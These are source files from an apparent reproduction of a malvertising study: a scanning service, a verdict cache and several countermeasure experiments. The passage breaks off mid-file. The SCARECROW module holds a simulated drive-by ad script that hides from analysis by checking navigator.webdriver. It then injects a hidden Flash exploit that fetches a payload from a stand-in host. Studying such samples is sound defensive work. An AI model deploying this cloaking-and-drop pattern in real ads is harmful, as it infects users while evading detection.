        self._idle = threading.Condition(self._state_lock)
        self._started = False
        self._stopped = False

    # -- lifecycle -----------------------------------------------------------

    def start(self) -> "ScanService":
        """Spawn the worker pool (idempotent)."""
        with self._state_lock:
            if self._stopped:
                raise RuntimeError("service already shut down")
            if not self._started:
                self._started = True
                self.pool.start()
                if self.autoscaler is not None:
                    self.autoscaler.start()
        return self

    def shutdown(self, drain: bool = True,
                 timeout: Optional[float] = None) -> None:
        """Stop the service: optionally drain, close the queue, join workers.

        With ``drain=True`` (the default) every accepted submission is
        scanned before the workers exit — the graceful path.  With
        ``drain=False`` the queue closes immediately and queued-but-unscanned
        tickets fail with :class:`QueueClosedError`.
        """
        with self._state_lock:
            if self._stopped:
                return
            self._stopped = True
            started = self._started
        if drain and started:
            self.drain(timeout=timeout)
        if self.autoscaler is not None:
            self.autoscaler.stop(timeout)
        self.pool.shutdown()
        self.queue.close()
        if started:
            self.pool.join(timeout)
        if self.store is not None and self._owns_store:
            # Seal the active segments so the next open replays clean.
            self.store.close()
        # Fail anything still unresolved (non-drain shutdown).
        with self._state_lock:
            orphans = list(self._pending.values())
            self._pending.clear()
            for entry in orphans:
                for ticket in entry.tickets:
                    ticket._fail(QueueClosedError("service shut down"))
            self._idle.notify_all()

    def __enter__(self) -> "ScanService":
        return self.start()

    def __exit__(self, *exc_info) -> None:
        self.shutdown()

    # -- submission ----------------------------------------------------------

    def submit(self, record: AdRecord, timeout: Optional[float] = None,
               tenant: Optional[str] = None) -> ScanTicket:
        """Submit one advertisement; returns a :class:`ScanTicket`.

        Cache hits resolve immediately.  Misses for a creative already
        in flight coalesce onto the running scan.  Fresh misses enter the
        ingest queue, which applies the configured backpressure policy
        (``timeout`` bounds a blocking put).  ``tenant`` attributes the
        submission (and any dead letter it becomes) to a gateway tenant;
        the default ``None`` is the pre-gateway direct path, bit-identical
        in fingerprints and verdicts.
        """
        ticket = ScanTicket(record.ad_id, record.content_hash, tenant=tenant)
        task: Optional[ScanTask] = None
        with self._state_lock:
            if self._stopped:
                raise QueueClosedError("service is shut down")
            if not self._started:
                raise RuntimeError("service not started (call start())")
            self.metrics.counter("submitted").inc()
            if tenant is not None:
                self.metrics.counter(f"tenant.{tenant}.service_submitted").inc()
            verdict = self.cache.get(record.content_hash)
            if verdict is not None:
                self.metrics.counter("cache_hits").inc()
                if tenant is not None:
                    self.metrics.counter(f"tenant.{tenant}.cache_hits").inc()
                if verdict.ad_id != record.ad_id:
                    # The cached scan may carry another session's (or a
                    # sighting's canonical) ad id; the verdict bits are
                    # content-pure, so relabel for this submission.
                    verdict = replace(verdict, ad_id=record.ad_id)
                ticket.from_cache = True
                ticket._resolve(verdict)
                return ticket
            self.metrics.counter("cache_misses").inc()
            entry = self._pending.get(record.content_hash)
            if entry is not None:
                self.metrics.counter("coalesced").inc()
                if tenant is not None:
                    self.metrics.counter(f"tenant.{tenant}.coalesced").inc()
                entry.tickets.append(ticket)
                return ticket
            if self.store is not None:
                # The persistent tier: a verdict that survived a restart
                # (or a crash) still skips the oracle.  Hits are promoted
                # into the memory cache so repeats stay one dict lookup.
                verdict = self.store.get(record.content_hash)
                if verdict is not None:
                    self.metrics.counter("store_hits").inc()
                    if tenant is not None:
                        self.metrics.counter(
                            f"tenant.{tenant}.store_hits").inc()
                    self.cache.put(record.content_hash, verdict)
                    if verdict.ad_id != record.ad_id:
                        verdict = replace(verdict, ad_id=record.ad_id)
                    ticket.from_cache = True
                    ticket._resolve(verdict)
                    return ticket
                self.metrics.counter("store_misses").inc()
            if self.pool.all_breakers_open:
                # Degraded mode: every worker is refusing work.  Cached
                # verdicts (above) still resolve; fresh scans are refused
                # at the edge instead of piling onto a dead pool.
                self.metrics.counter("degraded_rejections").inc()
                raise ServiceDegradedError(
                    "all worker breakers open; serving cached verdicts only")
            entry = _PendingScan()
            entry.tickets.append(ticket)
            self._pending[record.content_hash] = entry
            # Snapshot the record: streaming crawls keep appending
            # impressions to the live object while the scan runs.
            task = ScanTask(record=_snapshot(record),
                            submitted_at=time.monotonic(), tenant=tenant)
        try:
            self.queue.put(task, timeout=timeout)
        except (QueueFullError, QueueClosedError):
            with self._state_lock:
                self._pending.pop(record.content_hash, None)
                self.metrics.counter("rejected").inc()
                self._idle.notify_all()
            raise
        self.metrics.gauge("queue_depth").set(self.queue.depth)
        return ticket

    def scan_sync(self, record: AdRecord,
                  timeout: Optional[float] = None) -> AdVerdict:
        """Submit one advertisement and wait for its verdict."""
        return self.submit(record, timeout=timeout).result(timeout)

    def submit_corpus(self, corpus: AdCorpus) -> list[ScanTicket]:
        """Submit every unique advertisement of a corpus (in corpus order)."""
        return [self.submit(record) for record in corpus.records()]

    # -- streaming first sights ----------------------------------------------

    def sight(self, html: str, timeout: Optional[float] = None,
              tenant: Optional[str] = None) -> ScanTicket:
        """Submit one first-sight creative, deduplicated across shards.

        The scan payload is the canonical :func:`sighting_record` — a pure
        function of the creative — so it does not matter which shard's
        sighting wins the race: the verdict is identical.  First submit
        wins; later sightings of the same creative attach to the winning
        ticket (in flight or already resolved) and count as
        ``shard_dedup_hits``.  Raising behaviour matches :meth:`submit`
        (``reject`` backpressure and degraded mode propagate).
        """
        digest = content_hash(html)
        with self._state_lock:
            entry = self._sightings.get(digest)
            if entry is not None:
                self._count_dedup_hit(tenant)
                return entry.ticket
        sighted_at = time.monotonic()
        ticket = self.submit(sighting_record(html, digest), timeout=timeout,
                             tenant=tenant)
        with self._state_lock:
            entry = self._sightings.get(digest)
            if entry is not None:
                # Lost a submission race with another shard; the two
                # scans already coalesced inside submit().
                self._count_dedup_hit(tenant)
                return entry.ticket
            entry = _Sighting(ticket, sighted_at)
            self._sightings[digest] = entry
            self.metrics.counter("first_sight_submissions").inc()
            if ticket.done:
                # Resolved before the index entry existed (cache hit, or
                # a scan faster than this bookkeeping).
                self._observe_first_sight(entry)
            return ticket

    def adopt_sighting(self, record: AdRecord,
                       timeout: Optional[float] = None,
                       tenant: Optional[str] = None) -> ScanTicket:
        """Attach ``record`` (with its corpus ad id) to its sighting.

        The deterministic merge calls this as it assigns global ad ids:
        the creative was usually already sighted mid-crawl by some shard,
        so this just re-keys the existing ticket.  A creative that never
        made it through a shard submitter (serial streaming, or a shard
        whose mid-crawl submissions were shed) is sighted now — nothing
        is ever lost, only overlap.
        """
        with self._state_lock:
            entry = self._sightings.get(record.content_hash)
            primary = entry.ticket if entry is not None else None
        if primary is None:
            primary = self.sight(record.html, timeout=timeout, tenant=tenant)
        return AttachedTicket(record.ad_id, primary)

    def _count_dedup_hit(self, tenant: Optional[str]) -> None:
        """One cross-shard dedup hit, attributed when a tenant is known."""
        self.metrics.counter("shard_dedup_hits").inc()
        if tenant is not None:
            self.metrics.counter(f"tenant.{tenant}.shard_dedup_hits").inc()

    def crawl_started(self) -> None:
        """Mark a crawl as feeding this service (overlap accounting)."""
        self.metrics.gauge("active_crawls").inc()

    def crawl_finished(self) -> None:
        """Mark the end of a crawl started with :meth:`crawl_started`."""
        self.metrics.gauge("active_crawls").dec()

    def _observe_first_sight(self, entry: _Sighting) -> None:
        """Record one sighting's submission→verdict latency (locked, once)."""
        if not entry.latency_observed:
            entry.latency_observed = True
            self.metrics.histogram("first_sight_latency").observe(
                time.monotonic() - entry.sighted_at)

    def drain(self, timeout: Optional[float] = None) -> None:
        """Block until every accepted submission has a verdict."""
        deadline = None if timeout is None else time.monotonic() + timeout
        with self._idle:
            while self._pending:
                remaining = None
                if deadline is not None:
                    remaining = deadline - time.monotonic()
                    if remaining <= 0:
                        raise TimeoutError(
                            f"{len(self._pending)} scans still in flight "
                            f"after {timeout}s")
                self._idle.wait(remaining)

    # -- worker callbacks ----------------------------------------------------

    def _on_batch(self, size: int) -> None:
        self.metrics.histogram("batch_size").observe(size)
        self.metrics.gauge("queue_depth").set(self.queue.depth)

    def _on_retry(self, task: ScanTask) -> None:
        self.metrics.counter("scan_retries").inc()

    def _on_result(self, task: ScanTask, verdict: Optional[AdVerdict],
                   error: Optional[BaseException]) -> None:
        latency = time.monotonic() - task.submitted_at
        with self._state_lock:
            entry = self._pending.pop(task.record.content_hash, None)
            if verdict is not None:
                self.cache.put(task.record.content_hash, verdict)
                if self.store is not None:
                    try:
                        self.store.put(task.record.content_hash, verdict)
                    except StoreWriteError:
                        # The disk refused the append (full, torn); the
                        # verdict still serves from memory and the store
                        # stays consistent — degrade, don't fail the scan.
                        self.metrics.counter("store_write_errors").inc()
                self.metrics.counter("scanned").inc()
                if task.tenant is not None:
                    self.metrics.counter(f"tenant.{task.tenant}.scanned").inc()
                self.metrics.histogram("scan_latency").observe(latency)
                if self.metrics.gauge("active_crawls").value > 0:
                    # A verdict landed while a crawl is still running —
                    # the crawl/scan overlap the pipeline exists for.
                    self.metrics.counter("overlapped_scans").inc()
            else:
                self.metrics.counter("scan_errors").inc()
                assert error is not None
                self.dead_letters.record(task.record.ad_id,
                                         task.record.content_hash,
                                         task.attempts, error,
                                         tenant=task.tenant)
                self.metrics.counter("dead_lettered").inc()
            sighting = self._sightings.get(task.record.content_hash)
            if sighting is not None:
                self._observe_first_sight(sighting)
            if entry is not None:
                for ticket in entry.tickets:
                    if verdict is not None:
                        ticket._resolve(verdict)
                    else:
                        assert error is not None
                        ticket._fail(error)
            self.metrics.gauge("queue_depth").set(self.queue.depth)
            self._idle.notify_all()

    # -- introspection -------------------------------------------------------

    def stats(self) -> dict:
        """One dict with everything: metrics, cache, queue, batcher, pool."""
        compile_caches = self._sync_compile_cache_metrics()
        snapshot = self.metrics.snapshot()
        snapshot["compile_caches"] = compile_caches
        snapshot["vm_hotpath"] = {
            key: value - self._vm_hotpath_baseline.get(key, 0)
            for key, value in hotpath_stats().items()}
        snapshot["cache"] = self.cache.stats()
        snapshot["queue"] = self.queue.stats()
        snapshot["batcher"] = self.batcher.stats()
        snapshot["pool"] = {
            "workers": len(self.pool.workers),
            "alive": self.pool.alive,
            "scanned": self.pool.total_scanned,
            "breakers": self.pool.breaker_stats(),
            "degraded": self.pool.all_breakers_open,
            **self.pool.stats(),
        }
        if self.autoscaler is not None:
            snapshot["autoscaler"] = self.autoscaler.stats()
        snapshot["dead_letter"] = self.dead_letters.stats()
        if self.store is not None:
            store_stats = self.store.stats()
            snapshot["store"] = store_stats
            # Mirror the load-bearing store numbers into gauges so they
            # ride along with every metrics snapshot/export.
            self.metrics.gauge("store_records").set(store_stats["records"])
            self.metrics.gauge("store_segments_sealed").set(
                store_stats["segments"]["sealed"])
            self.metrics.gauge("store_bloom_hit_ratio").set(
                store_stats["bloom"]["hit_ratio"])
        return snapshot

    def _sync_compile_cache_metrics(self) -> dict:
        """Mirror the process-wide compile caches into this registry.

        Counters carry the hits/misses observed since this service was
        constructed (delta-tracked — the caches are shared by the whole
        process, including activity before the service existed); the
        hit-ratio gauges report each cache's process-wide rate.
        """
        all_stats = lru.cache_stats()
        for name, stats in all_stats.items():
            for kind in ("hits", "misses"):
                key = (name, kind)
                last = self._compile_cache_baseline.get(key, 0)
                delta = stats[kind] - last
                if delta > 0:
                    self.metrics.counter(f"compile_cache_{name}_{kind}").inc(delta)
                self._compile_cache_baseline[key] = stats[kind]
            self.metrics.gauge(f"compile_cache_{name}_hit_ratio").set(
                stats["hit_rate"])
        return all_stats


def _snapshot(record: AdRecord) -> AdRecord:
    """An immutable-enough copy of a record at submission time."""
    return AdRecord(
        ad_id=record.ad_id,
        content_hash=record.content_hash,
        html=record.html,
        first_seen_url=record.first_seen_url,
        sandboxed_anywhere=record.sandboxed_anywhere,
        impressions=list(record.impressions),
    )
