"""The verdict cache: content-hash keyed, LRU + TTL, fully counted.

The corpus dedup already shows why this exists: the paper's ~673k unique
creatives came out of tens of millions of impressions, so an online
scanner sees the same creative over and over.  Scanning is the expensive
step (a full honeyclient render); a repeat creative must skip it.  The
cache is keyed by the creative's content hash — the same key the corpus
dedups on — holds the full :class:`~repro.core.oracle.AdVerdict`, evicts
least-recently-used entries beyond ``capacity``, and expires entries
older than ``ttl`` seconds (verdicts go stale: blacklists churn and
campaign infrastructure gets taken down).
"""

from __future__ import annotations

import json
import threading
import time
from collections import OrderedDict
from pathlib import Path
from typing import Callable, Optional, Union

from repro.core.oracle import AdVerdict
from repro.core.persistence import (
    FORMAT_VERSION,
    atomic_writer,
    check_format_version,
    verdict_from_dict,
    verdict_to_dict,
)

PathLike = Union[str, Path]


class VerdictCache:
    """LRU + TTL cache mapping creative content hashes to verdicts.

    Parameters
    ----------
    capacity:
        Maximum number of entries; inserting beyond it evicts the least
        recently used entry.
    ttl:
        Seconds an entry stays valid, or ``None`` for no expiry.
    clock:
        Monotonic-time source, injectable for tests (defaults to
        :func:`time.monotonic`).
    """

    def __init__(
        self,
        capacity: int = 65536,
        ttl: Optional[float] = None,
        clock: Optional[Callable[[], float]] = None,
    ) -> None:
        if capacity <= 0:
            raise ValueError("capacity must be positive")
        if ttl is not None and ttl <= 0:
            raise ValueError("ttl must be positive (or None)")
        self.capacity = capacity
        self.ttl = ttl
        self._clock = clock or time.monotonic
        self._entries: "OrderedDict[str, tuple[AdVerdict, float]]" = OrderedDict()
        self._lock = threading.Lock()
        self.hits = 0
        self.misses = 0
        self.evictions = 0
        self.expirations = 0
        self.insertions = 0
        #: Corrupt JSONL lines skipped during :meth:`load` warm-start.
        self.load_skipped = 0

    # -- core operations -----------------------------------------------------

    def get(self, content_hash: str) -> Optional[AdVerdict]:
        """Return the cached verdict, refreshing recency; ``None`` on miss."""
        with self._lock:
            entry = self._entries.get(content_hash)
            if entry is None:
                self.misses += 1
                return None
            verdict, stored_at = entry
            if self._expired(stored_at):
                del self._entries[content_hash]
                self.expirations += 1
                self.misses += 1
                return None
            self._entries.move_to_end(content_hash)
            self.hits += 1
            return verdict

    def put(self, content_hash: str, verdict: AdVerdict) -> None:
        """Insert (or refresh) a verdict, evicting LRU entries as needed."""
        with self._lock:
            if content_hash in self._entries:
                del self._entries[content_hash]
            self._entries[content_hash] = (verdict, self._clock())
            self.insertions += 1
            while len(self._entries) > self.capacity:
                self._entries.popitem(last=False)
                self.evictions += 1

    def purge_expired(self) -> int:
        """Drop every expired entry; returns how many were dropped."""
        with self._lock:
            stale = [key for key, (_, stored_at) in self._entries.items()
                     if self._expired(stored_at)]
            for key in stale:
                del self._entries[key]
            self.expirations += len(stale)
            return len(stale)

    def _expired(self, stored_at: float) -> bool:
        return self.ttl is not None and self._clock() - stored_at > self.ttl

    # -- introspection -------------------------------------------------------

    def __len__(self) -> int:
        return len(self._entries)

    def __contains__(self, content_hash: str) -> bool:
        with self._lock:
            entry = self._entries.get(content_hash)
            return entry is not None and not self._expired(entry[1])

    def keys(self) -> list[str]:
        """Keys in LRU-to-MRU order (eviction order)."""
        with self._lock:
            return list(self._entries)

    @property
    def hit_rate(self) -> float:
        lookups = self.hits + self.misses
        return self.hits / lookups if lookups else 0.0

    def stats(self) -> dict:
        with self._lock:
            size = len(self._entries)
        return {
            "size": size,
            "capacity": self.capacity,
            "hits": self.hits,
            "misses": self.misses,
            "hit_rate": self.hit_rate,
            "evictions": self.evictions,
            "expirations": self.expirations,
            "insertions": self.insertions,
            "load_skipped": self.load_skipped,
        }

    # -- persistence ---------------------------------------------------------

    def save(self, path: PathLike) -> int:
        """Write the cache contents as JSONL (LRU→MRU order); returns count.

        A service restart should not start cold: the saved file replays
        through :meth:`load` so repeat creatives keep skipping the oracle
        across process lifetimes.  The write is atomic (temp file +
        rename), so a crash mid-save leaves the previous complete file,
        never a torn one.
        """
        path = Path(path)
        count = 0
        with self._lock:
            entries = list(self._entries.items())
        with atomic_writer(path) as handle:
            for content_hash, (verdict, _) in entries:
                row = {
                    "version": FORMAT_VERSION,
                    "content_hash": content_hash,
                    "verdict": verdict_to_dict(verdict),
                }
                handle.write(json.dumps(row, sort_keys=True))
                handle.write("\n")
                count += 1
        return count

    @classmethod
    def load(
        cls,
        path: PathLike,
        capacity: int = 65536,
        ttl: Optional[float] = None,
        clock: Optional[Callable[[], float]] = None,
    ) -> "VerdictCache":
        """Rebuild a cache from :meth:`save` output (entries enter fresh).

        A warm-start file lives across crashes, so it may carry torn or
        garbled lines (a kill mid-``save``, disk trouble).  Corrupt lines
        are *skipped and counted* (``load_skipped``, surfaced in
        :meth:`stats`) rather than aborting the whole warm-up — a cold
        entry costs one rescan, a refused warm-start costs them all.  A
        well-formed line declaring an incompatible format version is not
        corruption, though: that means the whole file is foreign or from
        a newer build, and still fails loudly.
        """
        cache = cls(capacity=capacity, ttl=ttl, clock=clock)
        with Path(path).open("r", encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if not line:
                    continue
                try:
                    data = json.loads(line)
                except ValueError:
                    cache.load_skipped += 1
                    continue
                if not isinstance(data, dict) or not isinstance(
                        data.get("version"), int):
                    cache.load_skipped += 1
                    continue
                check_format_version(data, what="verdict cache entry")
                try:
                    verdict = verdict_from_dict(data["verdict"])
                    content_hash = data["content_hash"]
                except (ValueError, KeyError, TypeError):
                    cache.load_skipped += 1
                    continue
                cache.put(content_hash, verdict)
        # Loading is warm-up, not traffic: don't let it skew the counters.
        cache.insertions = 0
        return cache
