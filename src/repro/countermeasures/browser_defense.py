"""§5.2: a topology-aware browser defence (after Li et al., CCS 2012).

The reactive defence the paper cites learns the *ad paths* that lead to
malicious content and raises an alarm while the browser is still walking
such a path — before the exploit server is reached.  The reproduction
trains on previously-observed incident paths (arbitration-chain domains and
their topological features) and then alarms on path prefixes that match the
learned knowledge base.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Sequence

from repro.core.results import StudyResults
from repro.crawler.corpus import Impression


@dataclass
class AdPathDefense:
    """A knowledge base of malicious ad-path topology.

    A domain is *implicated* when it appeared in at least
    ``min_domain_score`` known malicious paths **and** malicious paths make
    up at least ``min_domain_ratio`` of all its observed traffic — so the
    big exchanges, which relay both kinds, never trip the alarm by mere
    presence.  A path also alarms on topological anomaly: being longer than
    practically every benign path ever observed.
    """

    bad_domain_scores: Counter = field(default_factory=Counter)
    benign_length_quantile: int = 0
    min_domain_score: int = 2
    min_domain_ratio: float = 0.3

    # -- training ----------------------------------------------------------

    @classmethod
    def train(cls, malicious_paths: Sequence[Sequence[str]],
              benign_paths: Sequence[Sequence[str]],
              min_domain_score: int = 2,
              min_domain_ratio: float = 0.3) -> "AdPathDefense":
        defense = cls(min_domain_score=min_domain_score,
                      min_domain_ratio=min_domain_ratio)
        malicious_counts: Counter = Counter()
        benign_counts: Counter = Counter()
        for path in malicious_paths:
            for domain in set(path):
                malicious_counts[domain] += 1
        for path in benign_paths:
            for domain in set(path):
                benign_counts[domain] += 1
        for domain, bad in malicious_counts.items():
            ratio = bad / (bad + benign_counts.get(domain, 0))
            if ratio >= min_domain_ratio:
                defense.bad_domain_scores[domain] = bad
        lengths = sorted(len(p) for p in benign_paths) or [0]
        defense.benign_length_quantile = lengths[int(len(lengths) * 0.995)] \
            if lengths else 0
        return defense

    @classmethod
    def train_from_results(cls, results: StudyResults) -> "AdPathDefense":
        malicious_paths = []
        benign_paths = []
        for record, verdict in results.iter_with_verdicts():
            paths = [list(i.chain_domains) for i in record.impressions]
            (malicious_paths if verdict.is_malicious else benign_paths).extend(paths)
        return cls.train(malicious_paths, benign_paths)

    # -- inference -----------------------------------------------------------

    def alarm(self, path: Sequence[str]) -> bool:
        """Would the browser raise an alarm while walking ``path``?"""
        for prefix_len in range(1, len(path) + 1):
            if self._alarm_at(path[:prefix_len]):
                return True
        return False

    def alarm_hop(self, path: Sequence[str]) -> int:
        """First hop (1-based) at which the alarm fires; 0 if never."""
        for prefix_len in range(1, len(path) + 1):
            if self._alarm_at(path[:prefix_len]):
                return prefix_len
        return 0

    def _alarm_at(self, prefix: Sequence[str]) -> bool:
        if self.benign_length_quantile and len(prefix) > self.benign_length_quantile:
            return True
        return any(self.bad_domain_scores.get(domain, 0) >= self.min_domain_score
                   for domain in prefix)

    def evaluate(self, results: StudyResults) -> "DefenseEvaluation":
        """Measure detection/false-alarm rates on a results set."""
        tp = fn = fp = tn = 0
        for record, verdict in results.iter_with_verdicts():
            for impression in record.impressions:
                alarmed = self.alarm(impression.chain_domains)
                if verdict.is_malicious:
                    tp += alarmed
                    fn += not alarmed
                else:
                    fp += alarmed
                    tn += not alarmed
        return DefenseEvaluation(tp, fn, fp, tn)


@dataclass
class DefenseEvaluation:
    """Confusion counts for the ad-path defence (impression level)."""

    true_positives: int
    false_negatives: int
    false_positives: int
    true_negatives: int

    @property
    def detection_rate(self) -> float:
        denom = self.true_positives + self.false_negatives
        return self.true_positives / denom if denom else 0.0

    @property
    def false_alarm_rate(self) -> float:
        denom = self.false_positives + self.true_negatives
        return self.false_positives / denom if denom else 0.0

    def render(self) -> str:
        return (f"Ad-path defense: detection {self.detection_rate:.1%}, "
                f"false alarms {self.false_alarm_rate:.1%}")
