"""§5.1: arbitration penalties for networks caught serving malvertisements.

The paper's "more drastic" proposal: when a network is found delivering
malvertising, exclude it from arbitration for a while, pushing networks to
invest in better filtering.  :func:`apply_penalties` takes the *measured*
per-network malvertising ratios (what a regulator could actually observe),
bans offenders from every partner list, and reports who was banned.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.adnet.entities import AdNetwork
from repro.analysis.networks import NetworkAnalysis


@dataclass
class PenaltyPolicy:
    """When does a network get banned from arbitration?"""

    max_malicious_ratio: float = 0.10   # tolerated malvertising ratio
    min_ads_observed: int = 5           # evidence floor before judging

    def offenders(self, analysis: NetworkAnalysis) -> list[str]:
        """Network names that exceed the tolerated ratio."""
        return [
            stat.name for stat in analysis.stats
            if stat.ads_served >= self.min_ads_observed
            and stat.malicious_ratio > self.max_malicious_ratio
        ]


@dataclass
class PenaltyOutcome:
    """What the penalty round did."""

    banned_networks: list[str]
    removed_partner_edges: int


def apply_penalties(networks: list[AdNetwork], analysis: NetworkAnalysis,
                    policy: PenaltyPolicy | None = None) -> PenaltyOutcome:
    """Ban offenders from all partner lists (they can no longer buy slots).

    Banned networks keep their direct publishers (the paper's penalty is
    arbitration exclusion, not a death sentence) but stop receiving resold
    inventory — which is where most of their malicious serving happened.
    """
    policy = policy or PenaltyPolicy()
    banned = set(policy.offenders(analysis))
    removed = 0
    for network in networks:
        if not network.partners:
            continue
        kept_partners = []
        kept_weights = []
        weights = network.partner_weights or [1.0] * len(network.partners)
        for partner, weight in zip(network.partners, weights):
            if partner.name in banned:
                removed += 1
                continue
            kept_partners.append(partner)
            kept_weights.append(weight)
        network.partners = kept_partners
        network.partner_weights = kept_weights
    return PenaltyOutcome(banned_networks=sorted(banned), removed_partner_edges=removed)
