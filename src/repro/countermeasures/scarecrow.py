"""§5.2: SCARECROW-style false analysis alarms.

The paper cites SCARECROW (Zarras, ICCST 2014): malicious code that wants
to stay invisible to detection systems checks for analysis-environment
tells and disarms itself when it finds them; SCARECROW turns that logic
against the attacker by making *every* user's browser look like an
analysis environment, so environment-aware malware never fires for anyone.

The experiment here builds a small isolated world with an
environment-aware drive-by creative (it probes ``navigator.webdriver``
before exploiting), then loads it in a plain user browser and in a
SCARECROW-protected one and compares exploitation outcomes.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.browser import events as ev
from repro.browser.browser import Browser
from repro.browser.plugins import vulnerable_profile
from repro.malware.samples import build_executable, build_flash
from repro.web.dns import DnsResolver
from repro.web.http import HttpClient, HttpResponse, WebServer

AD_HOST = "landing-net.com"
PAYLOAD_HOST = "drop-zone.net"
EXPLOIT_CVE = "CVE-2013-0634"


def environment_aware_driveby_html() -> str:
    """A drive-by creative that checks for analysis tells before attacking."""
    return (
        "<html><body>"
        '<div class="ad-creative"><img src="http://' + AD_HOST + '/banner.png"></div>'
        "<script>"
        "var analyzed = navigator.webdriver;"
        "var fl = navigator.plugins.namedItem('Flash');"
        "if (!analyzed && fl) {"
        "  document.write('<embed src=\"http://" + AD_HOST + "/exp.swf\" "
        "type=\"application/x-shockwave-flash\" width=\"1\" height=\"1\">');"
        "}"
        "</script></body></html>"
    )


def _build_isolated_world() -> HttpClient:
    resolver = DnsResolver()
    client = HttpClient(resolver)
    resolver.register(AD_HOST)
    resolver.register(PAYLOAD_HOST)

    swf = build_flash("scarecrow-exp", exploit_cve=EXPLOIT_CVE,
                      payload_url=f"http://{PAYLOAD_HOST}/payload.exe")
    exe = build_executable("fakerean", "scarecrow-drop")

    ad_server = WebServer()
    ad_server.route("/ad.html", lambda req: HttpResponse.html(
        environment_aware_driveby_html()))
    ad_server.route("/banner.png", lambda req: HttpResponse.binary(
        b"\x89PNG....", "image/png"))
    ad_server.route("/exp.swf", lambda req: HttpResponse.binary(
        swf, "application/x-shockwave-flash"))
    client.mount(AD_HOST, ad_server)

    drop_server = WebServer()
    drop_server.route("/payload.exe", lambda req: HttpResponse.binary(
        exe, "application/x-msdownload"))
    client.mount(PAYLOAD_HOST, drop_server)
    return client


@dataclass
class ScarecrowOutcome:
    """Exploitation outcomes with and without the defence."""

    exploited_without_scarecrow: bool
    exploited_with_scarecrow: bool
    payload_dropped_without: bool
    payload_dropped_with: bool

    @property
    def effective(self) -> bool:
        return self.exploited_without_scarecrow and not self.exploited_with_scarecrow

    def render(self) -> str:
        return (
            f"SCARECROW experiment: plain browser exploited="
            f"{self.exploited_without_scarecrow} (payload dropped="
            f"{self.payload_dropped_without}); protected browser exploited="
            f"{self.exploited_with_scarecrow} (payload dropped="
            f"{self.payload_dropped_with})"
        )


def run_scarecrow_experiment() -> ScarecrowOutcome:
    """Load an environment-aware drive-by with and without SCARECROW."""
    url = f"http://{AD_HOST}/ad.html"

    plain_client = _build_isolated_world()
    plain = Browser(plain_client, plugin_profile=vulnerable_profile())
    plain_load = plain.load(url)

    protected_client = _build_isolated_world()
    protected = Browser(protected_client, plugin_profile=vulnerable_profile())
    protected.exposes_analysis_tells = True  # the SCARECROW switch
    protected_load = protected.load(url)

    return ScarecrowOutcome(
        exploited_without_scarecrow=plain_load.events.count(ev.EXPLOIT_SUCCESS) > 0,
        exploited_with_scarecrow=protected_load.events.count(ev.EXPLOIT_SUCCESS) > 0,
        payload_dropped_without=any(d.initiated_by == "exploit"
                                    for d in plain_load.downloads),
        payload_dropped_with=any(d.initiated_by == "exploit"
                                 for d in protected_load.downloads),
    )
