"""Countermeasures (§5 of the paper), as runnable what-if experiments.

The paper proposes proactive defences (a blacklist of rejected creatives
shared across ad networks; arbitration penalties for networks caught
serving malvertisements) and reactive ones (ad-path alarms in the browser;
client-side ad blocking).  Each module here implements one of them against
the simulated ecosystem so their effect can be measured with the same
pipeline that measured the baseline.
"""

from repro.countermeasures.adblock import AdblockUser, simulate_adblock
from repro.countermeasures.browser_defense import AdPathDefense
from repro.countermeasures.penalties import PenaltyPolicy, apply_penalties
from repro.countermeasures.shared_blacklist import SharedSubmissionBlacklist, apply_shared_blacklist

__all__ = [
    "AdPathDefense",
    "AdblockUser",
    "PenaltyPolicy",
    "SharedSubmissionBlacklist",
    "apply_penalties",
    "apply_shared_blacklist",
    "simulate_adblock",
]
