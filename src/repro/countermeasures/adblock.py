"""§5.2: client-side ad blocking as the last line of defence.

A user running Adblock Plus never fetches ad iframes at all, which blocks
malvertising completely for covered ad hosts — at the price of the
publisher's revenue (the "domino effect in the Internet's economy" the
paper warns a universal adoption would cause).  The simulation replays the
measured corpus through a user-side filter engine and reports both sides of
the trade-off.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.results import StudyResults
from repro.filterlists.matcher import FilterEngine


@dataclass
class AdblockOutcome:
    """What a filter-list user would have experienced."""

    total_impressions: int
    blocked_impressions: int
    malicious_impressions: int
    blocked_malicious: int

    @property
    def malicious_exposure_reduction(self) -> float:
        if self.malicious_impressions == 0:
            return 0.0
        return self.blocked_malicious / self.malicious_impressions

    @property
    def revenue_loss(self) -> float:
        """Fraction of all ad impressions (publisher revenue) suppressed."""
        if self.total_impressions == 0:
            return 0.0
        return self.blocked_impressions / self.total_impressions

    def render(self) -> str:
        return (
            f"Adblock simulation: blocks {self.blocked_malicious}/"
            f"{self.malicious_impressions} malicious impressions "
            f"({self.malicious_exposure_reduction:.1%}) at the cost of "
            f"{self.revenue_loss:.1%} of all ad impressions"
        )


@dataclass
class AdblockUser:
    """A user whose browser runs the given filter list."""

    engine: FilterEngine

    def would_block(self, request_url: str, page_url: str) -> bool:
        return self.engine.is_ad_url(request_url, page_url,
                                     resource_type="subdocument")


def simulate_adblock(results: StudyResults, engine: FilterEngine) -> AdblockOutcome:
    """Replay the crawl's ad impressions through a client-side filter."""
    user = AdblockUser(engine)
    total = blocked = malicious = blocked_malicious = 0
    for record, verdict in results.iter_with_verdicts():
        for impression in record.impressions:
            total += 1
            is_blocked = user.would_block(impression.request_url, impression.page_url)
            if is_blocked:
                blocked += 1
            if verdict.is_malicious:
                malicious += 1
                if is_blocked:
                    blocked_malicious += 1
    return AdblockOutcome(
        total_impressions=total,
        blocked_impressions=blocked,
        malicious_impressions=malicious,
        blocked_malicious=blocked_malicious,
    )
