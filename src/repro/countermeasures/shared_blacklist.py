"""§5.1: a shared blacklist of rejected advertisements.

Today an attacker rejected by one network simply resubmits elsewhere; the
paper proposes that networks share their rejections so a creative caught
once is dead everywhere.  :func:`apply_shared_blacklist` re-screens every
campaign with that sharing in place: any campaign rejected by at least one
*participating* network is removed from every participating network's
inventory.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.adnet.entities import AdNetwork, Campaign
from repro.adnet.filtering import screen_campaign, submits_campaign
from repro.util.rand import fork


@dataclass
class SharedSubmissionBlacklist:
    """The shared rejection database."""

    rejected_campaigns: set[str] = field(default_factory=set)
    contributors: dict[str, str] = field(default_factory=dict)  # campaign -> first rejecting net

    def report_rejection(self, network: AdNetwork, campaign: Campaign) -> None:
